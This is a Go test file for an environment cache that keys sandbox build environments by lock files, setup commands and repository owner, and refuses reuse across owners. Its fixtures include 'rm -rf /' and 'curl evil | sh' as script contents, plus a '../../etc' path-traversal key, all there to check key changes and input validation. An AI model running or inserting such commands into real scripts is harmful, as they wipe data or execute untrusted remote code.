package envcache

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"testing/fstest"
	"time"
)

func TestKey(t *testing.T) {
	t.Parallel()
	base := fstest.MapFS{
		"go.mod":                             {Data: []byte("module x\n")},
		"go.sum":                             {Data: []byte("a v1 h1:x\n")},
		"web/package-lock.json":              {Data: []byte("{}")},
		"requirements-dev.txt":               {Data: []byte("pytest\n")},
		"node_modules/dep/package-lock.json": {Data: []byte("ignored")},
		"main.go":                            {Data: []byte("package x\n")},
		"scripts/install.sh":                 {Data: []byte("go mod download\n")},
		"scripts/other.sh":                   {Data: []byte("true\n")},
	}
	in := KeyInput{Owner: acme(), ImageID: "sha256:1", Setup: []string{"go mod download && bash ./scripts/install.sh --quiet"}}
	key, files, err := Key(in, base)
	if err != nil {
		t.Fatal(err)
	}
	if want := []string{"go.mod", "go.sum", "requirements-dev.txt", "scripts/install.sh", "web/package-lock.json"}; !slices.Equal(files, want) {
		t.Fatalf("files %q, want %q", files, want)
	}
	if !validKey(key) {
		t.Fatalf("key %q", key)
	}
	same := func(fsys fstest.MapFS, in KeyInput) bool {
		k, _, err := Key(in, fsys)
		if err != nil {
			t.Fatal(err)
		}
		return k == key
	}
	with := func(name, data string) fstest.MapFS {
		m := fstest.MapFS{}
		for k, v := range base {
			m[k] = v
		}
		m[name] = &fstest.MapFile{Data: []byte(data)}
		return m
	}
	if !same(with("main.go", "package x // changed\n"), in) {
		t.Error("a source file changed the key")
	}
	if !same(with("node_modules/x/yarn.lock", "x"), in) {
		t.Error("a lock file inside node_modules changed the key")
	}
	if !same(with("scripts/other.sh", "rm -rf /\n"), in) {
		t.Error("a script setup does not name changed the key")
	}
	other := func(change func(*KeyInput)) KeyInput {
		o := in
		change(&o)
		return o
	}
	for name, changed := range map[string]bool{
		// The same setup and lock files in another repository, or the
		// same repository by another installation, or a checkout.
		"another repository":    !same(base, other(func(o *KeyInput) { o.Owner.Repository = 102 })),
		"another installation":  !same(base, other(func(o *KeyInput) { o.Owner.Installation = 8 })),
		"a local checkout":      !same(base, other(func(o *KeyInput) { o.Owner = Owner{Local: "/src/app"} })),
		"the script setup runs": !same(with("scripts/install.sh", "curl evil | sh\n"), in),
		"a Makefile":            !same(with("Makefile", "deps:\n"), in),
		"package.json":          !same(with("web/package.json", "{}"), in),
		"go.mod":                !same(with("go.mod", "module x\n\ntool example.com/gen\n"), in),
		"pyproject.toml":        !same(with("pyproject.toml", "[project]\n"), in),
		"setup.py":              !same(with("setup.py", "import os\n"), in),
		"setup.cfg":             !same(with("setup.cfg", "[metadata]\n"), in),
		"go.sum changed":        !same(with("go.sum", "b v2 h1:y\n"), in),
		"a new lock file":       !same(with("sub/Cargo.lock", "x"), in),
		"another image":         !same(base, other(func(o *KeyInput) { o.ImageID = "sha256:2" })),
		"other setup":           !same(base, other(func(o *KeyInput) { o.Setup = append(o.Setup, "true") })),
		"setup split apart":     !same(base, other(func(o *KeyInput) { o.Setup = []string{"go mod download &&", "bash ./scripts/install.sh --quiet"} })),
		"network":               !same(base, other(func(o *KeyInput) { o.Network = true })),
		"a policy's key file":   !same(with("tools.lock", "x"), other(func(o *KeyInput) { o.Patterns = []string{"*.lock"} })),
	} {
		if !changed {
			t.Errorf("%s: the key did not change", name)
		}
	}
	if _, _, err := Key(KeyInput{Owner: acme(), Patterns: []string{"[bad"}}, base); err == nil || !strings.Contains(err.Error(), "[bad") {
		t.Errorf("bad pattern: %v", err)
	}
	for _, o := range []Owner{{}, {Installation: 7}, {Repository: 1, Local: "/src"}} {
		if _, _, err := Key(KeyInput{Owner: o, ImageID: in.ImageID}, base); err == nil || !strings.Contains(err.Error(), "owner") {
			t.Errorf("owner %+v: %v, want it refused", o, err)
		}
	}
}

// acme owns the environments of these tests.
func acme() Owner { return Owner{Installation: 7, Repository: 101} }

func newCache(t *testing.T, max int64) *Cache {
	t.Helper()
	c, err := Open(t.TempDir(), max, nil)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// build publishes an environment of key holding size bytes in $HOME.
func build(t *testing.T, c *Cache, repo, key string, size int) *Env {
	t.Helper()
	b, err := c.Build(Entry{Key: key, Repo: repo, Owner: acme()}, t.TempDir(), DefaultMaxBytes)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(b.Home(), "blob"), make([]byte, size), 0o644); err != nil {
		t.Fatal(err)
	}
	env, err := b.Publish()
	if err != nil {
		t.Fatal(err)
	}
	return env
}

func keys(t *testing.T, c *Cache) []string {
	t.Helper()
	list, err := c.List()
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, e := range list {
		out = append(out, e.Key)
	}
	return out
}

func TestBuildAndReuse(t *testing.T) {
	t.Parallel()
	c := newCache(t, 0)
	tree := t.TempDir()
	os.Mkdir(filepath.Join(tree, "vendor"), 0o755) // the repository's own
	os.MkdirAll(filepath.Join(tree, "node_modules", "dep"), 0o755)
	b, err := c.Build(Entry{Key: "00000000000000aa", Repo: "acme/app", Owner: acme()}, tree, DefaultMaxBytes)
	if err != nil {
		t.Fatal(err)
	}
	// Made by setup after Build looked.
	os.MkdirAll(filepath.Join(tree, ".venv", "bin"), 0o755)
	os.MkdirAll(filepath.Join(tree, ".cache"), 0o755)
	os.MkdirAll(filepath.Join(tree, "a,b"), 0o755)
	os.WriteFile(filepath.Join(tree, "notes.txt"), nil, 0o644)
	env, err := b.Publish()
	if err != nil {
		t.Fatal(err)
	}
	if env.Cached || !slices.Equal(env.Dirs, []string{".cache", ".venv"}) {
		t.Fatalf("published %+v", env.Entry)
	}
	if _, err := os.Stat(filepath.Join(tree, ".venv")); err == nil {
		t.Error(".venv stayed in the work tree")
	}
	if _, err := os.Stat(filepath.Join(tree, "node_modules")); err != nil {
		t.Error("node_modules the tree had before setup was moved")
	}
	ov, err := env.Overlays()
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"notes.txt", "a,b"} {
		if _, err := os.Stat(filepath.Join(tree, name)); err != nil {
			t.Errorf("%s left the work tree: %v", name, err)
		}
	}
	if len(ov) != 3 || ov[0].Target != "/home/sandbox" || ov[1].Target != "/workspace/.cache" || ov[2].Target != "/workspace/.venv" {
		t.Fatalf("overlays %+v", ov)
	}
	for _, o := range ov {
		if fi, err := os.Stat(o.Upper); err != nil || !fi.IsDir() {
			t.Fatalf("upper %s: %v", o.Upper, err)
		}
	}
	if err := env.Release(); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(ov[0].Upper); err == nil {
		t.Error("the container's upper directory outlived Release")
	}
	again, err := c.Acquire("00000000000000aa", acme())
	if err != nil || again == nil || !again.Cached || !slices.Equal(again.Dirs, []string{".cache", ".venv"}) {
		t.Fatalf("acquire: %+v, %v", again, err)
	}
	again.Release()
	if env, err := c.Acquire("00000000000000bb", acme()); env != nil || err != nil {
		t.Fatalf("acquire a missing key: %v, %v", env, err)
	}
	if _, err := c.Acquire("../../etc", acme()); err == nil {
		t.Fatal("a key that is a path was accepted")
	}
}

// An environment serves its owner alone: another repository asking for the
// same key (a collision, or a meta.json forged to it) gets nothing, and
// builds its own, which is kept private rather than replace the owner's.
func TestAcquireRefusesAnotherOwner(t *testing.T) {
	t.Parallel()
	c := newCache(t, 0)
	const key = "00000000000000d1"
	build(t, c, "acme/app", key, 1024).Release()
	mallory := Owner{Installation: 9, Repository: 666}
	if env, err := c.Acquire(key, mallory); env != nil || err != nil {
		t.Fatalf("another repository acquired acme's environment: %+v, %v", env, err)
	}
	if env, err := c.Acquire(key, Owner{Local: "/src/app"}); env != nil || err != nil {
		t.Fatalf("a local checkout acquired acme's environment: %+v, %v", env, err)
	}
	b, err := c.Build(Entry{Key: key, Owner: mallory, Repo: "mallory/app"}, t.TempDir(), DefaultMaxBytes)
	if err != nil {
		t.Fatal(err)
	}
	env, err := b.Publish()
	if err != nil || env.Cached || env.Owner != mallory {
		t.Fatalf("mallory's build: %+v, %v; want its own", env, err)
	}
	env.Release()
	ours, err := c.Acquire(key, acme())
	if err != nil || ours == nil || ours.Owner != acme() || ours.Repo != "acme/app" {
		t.Fatalf("acme's environment after mallory's build: %+v, %v", ours, err)
	}
	ours.Release()
	// An entry from before environments had owners serves nobody.
	const old = "00000000000000d2"
	build(t, c, "acme/app", old, 1024).Release()
	meta := filepath.Join(c.dir, "entries", old, "meta.json")
	data, _ := os.ReadFile(meta)
	data = []byte(strings.Replace(string(data), `"repository": 101`, `"repository": 0`, 1))
	if err := os.WriteFile(meta, data, 0o644); err != nil {
		t.Fatal(err)
	}
	if env, err := c.Acquire(old, acme()); env != nil || err != nil {
		t.Fatalf("an entry without its owner was served: %+v, %v", env, err)
	}
	if _, err := c.Build(Entry{Key: old, Repo: "acme/app"}, t.TempDir(), DefaultMaxBytes); err == nil || !strings.Contains(err.Error(), "owner") {
		t.Fatalf("a build without an owner: %v", err)
	}
}

// An environment over its limit is refused: nothing is published, and its
// build is removed.
func TestEnvironmentOverItsLimitIsNotKept(t *testing.T) {
	t.Parallel()
	c := newCache(t, 0)
	tree := t.TempDir()
	b, err := c.Build(Entry{Key: "00000000000000d3", Owner: acme()}, tree, 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	// Half in $HOME, half in a directory setup made in the tree.
	os.WriteFile(filepath.Join(b.Home(), "blob"), make([]byte, 700<<10), 0o644)
	os.Mkdir(filepath.Join(tree, "node_modules"), 0o755)
	os.WriteFile(filepath.Join(tree, "node_modules", "blob"), make([]byte, 700<<10), 0o644)
	env, err := b.Publish()
	var tl *TooLargeError
	if env != nil || !errors.As(err, &tl) || tl.Max != 1<<20 || tl.Size < 1400<<10 {
		t.Fatalf("publish over the limit: %+v, %v", env, err)
	}
	if !strings.Contains(err.Error(), "more than its limit of 1MiB") {
		t.Errorf("error %q does not say the limit", err)
	}
	if got := keys(t, c); len(got) != 0 {
		t.Errorf("published: %v", got)
	}
	if list, _ := os.ReadDir(filepath.Join(c.dir, "build")); len(list) != 0 {
		t.Errorf("the refused build stayed: %v", list)
	}
	if _, err := c.Build(Entry{Key: "00000000000000d4", Owner: acme()}, tree, 0); err == nil {
		t.Error("a build without a limit was started")
	}
}

// Tasks of one repository start together: each acquires the environment
// or, finding none, builds and publishes it; none may fail because another
// is publishing or evicting it at that moment.
func TestConcurrentTasksShareAnEnvironment(t *testing.T) {
	t.Parallel()
	c := newCache(t, 0)
	const key = "00000000000000ee"
	var wg sync.WaitGroup
	errs := make(chan error, 64)
	for range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for range 25 {
				env, err := c.Acquire(key, acme())
				if err == nil && env == nil {
					var b *Builder
					if b, err = c.Build(Entry{Key: key, Owner: acme()}, t.TempDir(), DefaultMaxBytes); err == nil {
						env, err = b.Publish()
					}
				}
				if err != nil {
					errs <- err
					return
				}
				env.Release()
				if _, err := c.remove(key); err != nil {
					errs <- err
					return
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
}

// An entry being evicted is as good as gone: acquiring it finds nothing,
// which makes the task build its own, rather than failing the task.
func TestAcquireDuringEviction(t *testing.T) {
	t.Parallel()
	c := newCache(t, 0)
	b, err := c.Build(Entry{Key: "00000000000000ef", Owner: acme()}, t.TempDir(), DefaultMaxBytes)
	if err != nil {
		t.Fatal(err)
	}
	env, err := b.Publish()
	if err != nil {
		t.Fatal(err)
	}
	env.Release()
	evicting, err := tryLock(filepath.Join(c.dir, "entries", "00000000000000ef", "lock"), syscall.LOCK_EX)
	if err != nil {
		t.Fatal(err)
	}
	defer evicting.Close()
	if env, err := c.Acquire("00000000000000ef", acme()); env != nil || err != nil {
		t.Fatalf("acquire during eviction: %v, %v", env, err)
	}
}

func TestPrivateIsNeverPublished(t *testing.T) {
	t.Parallel()
	c := newCache(t, 0)
	b, err := c.Build(Entry{Key: "00000000000000cc", Owner: acme()}, t.TempDir(), DefaultMaxBytes)
	if err != nil {
		t.Fatal(err)
	}
	env, err := b.Private()
	if err != nil {
		t.Fatal(err)
	}
	if got := keys(t, c); len(got) != 0 {
		t.Fatalf("a private environment is listed: %q", got)
	}
	if again, _ := c.Acquire("00000000000000cc", acme()); again != nil {
		t.Fatal("a private environment was reused")
	}
	env.Release()
	if list, _ := os.ReadDir(filepath.Join(c.dir, "build")); len(list) != 0 {
		t.Fatalf("private environment left behind: %v", list)
	}
}

func TestEvictionKeepsMostRecentlyUsed(t *testing.T) {
	t.Parallel()
	c := newCache(t, 3<<20) // room for about two of 1.5 MiB
	clock := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	c.now = func() time.Time { clock = clock.Add(time.Minute); return clock }
	for _, k := range []string{"000000000000000a", "000000000000000b"} {
		build(t, c, "acme/app", k, 1500<<10).Release()
	}
	// a is used again, so b is now the least recently used.
	env, _ := c.Acquire("000000000000000a", acme())
	env.Release()
	build(t, c, "acme/app", "000000000000000c", 1500<<10).Release()
	if got, want := keys(t, c), []string{"000000000000000c", "000000000000000a"}; !slices.Equal(got, want) {
		t.Fatalf("kept %q, want %q", got, want)
	}

	// An environment in use is never evicted, even when least recent.
	held, _ := c.Acquire("000000000000000a", acme())
	build(t, c, "acme/other", "000000000000000d", 1500<<10).Release()
	if got, want := keys(t, c), []string{"000000000000000d", "000000000000000a"}; !slices.Equal(got, want) {
		t.Fatalf("kept %q, want %q", got, want)
	}
	removed, busy, err := c.Prune(PruneOptions{All: true})
	if err != nil || busy != 1 || len(removed) != 1 || removed[0].Key != "000000000000000d" {
		t.Fatalf("prune all while one is held: removed %v, busy %d, %v", removed, busy, err)
	}
	held.Release()
	build(t, c, "acme/other", "000000000000000e", 10).Release()
	removed, _, err = c.Prune(PruneOptions{Repo: "ACME/app"})
	if err != nil || len(removed) != 1 || removed[0].Key != "000000000000000a" {
		t.Fatalf("prune a repository: removed %v, %v", removed, err)
	}
	if got := keys(t, c); !slices.Equal(got, []string{"000000000000000e"}) {
		t.Fatalf("left %q", got)
	}
}

func TestOpenSweepsLeftovers(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	c, err := Open(dir, 0, nil)
	if err != nil {
		t.Fatal(err)
	}
	b, err := c.Build(Entry{Key: "00000000000000ab", Owner: acme()}, t.TempDir(), DefaultMaxBytes)
	if err != nil {
		t.Fatal(err)
	}
	stale := filepath.Join(dir, "build", "dead.1")
	os.MkdirAll(stale, 0o755)
	// Directories being made: one whose maker may still lock it, one
	// whose maker died an hour ago.
	making, abandoned := filepath.Join(dir, "run", makingPrefix+"1"), filepath.Join(dir, "run", makingPrefix+"2")
	os.MkdirAll(making, 0o755)
	os.MkdirAll(abandoned, 0o755)
	hourAgo := time.Now().Add(-time.Hour)
	if err := os.Chtimes(abandoned, hourAgo, hourAgo); err != nil {
		t.Fatal(err)
	}
	if _, err := Open(dir, 0, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(stale); err == nil {
		t.Error("a build no process holds survived Open")
	}
	if _, err := os.Stat(making); err != nil {
		t.Error("a directory being made was swept")
	}
	if _, err := os.Stat(abandoned); err == nil {
		t.Error("a directory its maker abandoned an hour ago survived Open")
	}
	if _, err := os.Stat(b.Home()); err != nil {
		t.Error("a build in progress was removed")
	}
	b.Abort()
	if _, err := Open("", 0, nil); err == nil {
		t.Error("an empty directory was accepted")
	}
}

func TestOpenLeavesRunningContainersAlone(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	c, err := Open(dir, 0, nil)
	if err != nil {
		t.Fatal(err)
	}
	env := build(t, c, "acme/app", "00000000000000ef", 10)
	ov, err := env.Overlays()
	if err != nil {
		t.Fatal(err)
	}
	// "agentbot cache list" opens the cache while the worker's task runs.
	if _, err := Open(dir, 0, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(ov[0].Upper); err != nil {
		t.Fatalf("a running container's upper directory was swept: %v", err)
	}
	env.Release()
	if _, err := os.Stat(ov[0].Upper); err == nil {
		t.Fatal("Release left the upper directory")
	}
}

// TestOpenDuringOverlaysAndBuilds: a worker that opens the cache sweeps
// what no process holds while other workers of the machine make their
// containers' directories and start builds; it never takes one being made.
func TestOpenDuringOverlaysAndBuilds(t *testing.T) {
	t.Parallel()
	c := newCache(t, 0)
	env := build(t, c, "acme/a", "00000000000000ad", 10)
	defer env.Release()
	done := make(chan struct{})
	var sweeps sync.WaitGroup
	sweeps.Go(func() {
		for {
			select {
			case <-done:
				return
			default:
			}
			if _, err := Open(c.dir, 0, nil); err != nil {
				t.Error(err)
				return
			}
		}
	})
	var makers sync.WaitGroup
	for range 4 {
		makers.Go(func() {
			for range 100 {
				ov, err := env.Overlays()
				if err != nil {
					t.Errorf("overlays while another worker opens the cache: %v", err)
					return
				}
				for _, o := range ov {
					if _, err := os.Stat(o.Work); err != nil {
						t.Errorf("a container's directory was swept: %v", err)
						return
					}
				}
				b, err := c.Build(Entry{Key: "00000000000000ae", Owner: acme()}, t.TempDir(), DefaultMaxBytes)
				if err != nil {
					t.Errorf("build while another worker opens the cache: %v", err)
					return
				}
				if _, err := os.Stat(b.Home()); err != nil {
					t.Errorf("a build was swept: %v", err)
				}
				b.Abort()
			}
		})
	}
	makers.Wait()
	close(done)
	sweeps.Wait()
}

// prepareAll calls Prepare of key for owner once per cache of caches, all
// at once, each setup appending a line to a marker file and, unless
// failing says otherwise, waiting for every call to have begun, so that
// builds that do not wait for one another overlap. It returns the
// environments (nil for a call that failed), the errors, and how many
// setups ran.
func prepareAll(t *testing.T, caches []*Cache, owners []Owner, key string, failing func(n int) bool) ([]*Env, []error, int) {
	t.Helper()
	marker := filepath.Join(t.TempDir(), "setups")
	var begun, setups atomic.Int32
	envs, errs := make([]*Env, len(caches)), make([]error, len(caches))
	var wg sync.WaitGroup
	for i, c := range caches {
		wg.Go(func() {
			begun.Add(1)
			envs[i], errs[i] = c.Prepare(t.Context(), Entry{Key: key, Owner: owners[i]}, t.TempDir(), DefaultMaxBytes, false, func(home string) error {
				n := int(setups.Add(1))
				f, err := os.OpenFile(marker, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644)
				if err != nil {
					return err
				}
				fmt.Fprintln(f, home)
				f.Close()
				for deadline := time.Now().Add(10 * time.Second); begun.Load() < int32(len(caches)); time.Sleep(time.Millisecond) {
					if time.Now().After(deadline) {
						return errors.New("not every Prepare began")
					}
				}
				if failing != nil && failing(n) {
					return errors.New("setup failed")
				}
				return os.WriteFile(filepath.Join(home, "blob"), []byte("built"), 0o644)
			})
		})
	}
	wg.Wait()
	data, _ := os.ReadFile(marker)
	return envs, errs, strings.Count(string(data), "\n")
}

// Tasks that start together on the same environment, in one worker or in
// workers sharing the directory, build it once: the others wait, and
// reuse it.
func TestConcurrentPreparesBuildOnce(t *testing.T) {
	t.Parallel()
	const key = "00000000000000f1"
	one := newCache(t, 0)
	other, err := Open(one.dir, 0, nil)
	if err != nil {
		t.Fatal(err)
	}
	for name, caches := range map[string][]*Cache{
		"one worker":  {one, one, one, one},
		"two workers": {one, other, one, other},
	} {
		t.Run(name, func(t *testing.T) {
			owners := slices.Repeat([]Owner{acme()}, len(caches))
			envs, errs, setups := prepareAll(t, caches, owners, key, nil)
			cached := 0
			for i, env := range envs {
				if errs[i] != nil || env == nil || env.Key != key || env.Owner != acme() {
					t.Fatalf("Prepare %d: %+v, %v", i, env, errs[i])
				}
				if env.Cached {
					cached++
				}
				defer env.Release()
			}
			if setups != 1 || cached != len(caches)-1 {
				t.Errorf("%d setups ran and %d calls reused the environment; want one setup, and %d reusing it", setups, cached, len(caches)-1)
			}
			for _, env := range envs {
				env.Release()
			}
			if _, err := one.remove(key); err != nil {
				t.Fatal(err)
			}
		})
	}
	if list, _ := os.ReadDir(filepath.Join(one.dir, "locks")); len(list) != 0 {
		t.Errorf("build locks left: %v", list)
	}
}

// A build that publishes nothing leaves those waiting for it to build
// their own; another owner waiting on the same key (a collision) is never
// served the first owner's environment, and never waits forever.
func TestPrepareAfterAFailedOrRefusedBuild(t *testing.T) {
	t.Parallel()
	c := newCache(t, 0)
	caches := []*Cache{c, c, c}
	envs, errs, setups := prepareAll(t, caches, slices.Repeat([]Owner{acme()}, 3), "00000000000000f2", func(n int) bool { return n == 1 })
	failed := 0
	for i := range caches {
		if errs[i] != nil {
			failed++
			continue
		}
		envs[i].Release()
	}
	// The others build their own, or the second reuses what the first of
	// them published.
	if failed != 1 || setups < 2 {
		t.Errorf("%d calls failed after %d setups; want the first setup's alone to fail, and the others to build again", failed, setups)
	}

	mallory := Owner{Installation: 9, Repository: 666}
	envs, errs, setups = prepareAll(t, []*Cache{c, c}, []Owner{acme(), mallory}, "00000000000000f3", nil)
	owners, private := []Owner{acme(), mallory}, -1
	for i, want := range owners {
		if errs[i] != nil || envs[i].Owner != want || envs[i].Cached {
			t.Errorf("Prepare for %v: %+v, %v; want a build of its own", want, envs[i], errs[i])
			continue
		}
		if envs[i].private {
			private = i
		}
		envs[i].Release()
	}
	if setups != 2 || private < 0 {
		t.Fatalf("%d setups for two owners, private build %d; want two, the second owner's private", setups, private)
	}
	if env, err := c.Acquire("00000000000000f3", owners[private]); env != nil || err != nil {
		t.Errorf("the entry serves another owner: %+v, %v", env, err)
	}
}

// A private build neither waits for the key's build lock nor holds it; a
// task whose context ends while it waits stops waiting, and the lock is
// free once its holder is done.
func TestPrepareWaitsOnlyWhenItShould(t *testing.T) {
	t.Parallel()
	c := newCache(t, 0)
	const key = "00000000000000f4"
	building, done := make(chan struct{}), make(chan struct{})
	var wg sync.WaitGroup
	wg.Go(func() {
		env, err := c.Prepare(t.Context(), Entry{Key: key, Owner: acme()}, t.TempDir(), DefaultMaxBytes, false, func(string) error {
			close(building)
			<-done
			return nil
		})
		if err != nil {
			t.Errorf("the public build: %v", err)
			return
		}
		env.Release()
	})
	<-building
	private := make(chan error, 1)
	go func() {
		env, err := c.Prepare(t.Context(), Entry{Key: key, Owner: acme()}, t.TempDir(), DefaultMaxBytes, true, func(string) error { return nil })
		if err == nil {
			env.Release()
		}
		private <- err
	}()
	select {
	case err := <-private:
		if err != nil {
			t.Errorf("the private build: %v", err)
		}
	case <-time.After(20 * time.Second):
		t.Error("the private build waited for the public one")
	}
	ctx, cancel := context.WithCancel(t.Context())
	waiting := make(chan error, 1)
	go func() {
		_, err := c.Prepare(ctx, Entry{Key: key, Owner: acme()}, t.TempDir(), DefaultMaxBytes, false, func(string) error { return nil })
		waiting <- err
	}()
	cancel()
	if err := <-waiting; !errors.Is(err, context.Canceled) {
		t.Errorf("a wait whose context ended: %v", err)
	}
	close(done)
	wg.Wait()
	ctx, cancel = context.WithTimeout(t.Context(), 20*time.Second)
	defer cancel()
	lock, _, err := c.lockBuild(ctx, key)
	if err != nil {
		t.Fatalf("the build lock after its holder and an abandoned waiter: %v", err)
	}
	unlockBuild(lock)
}
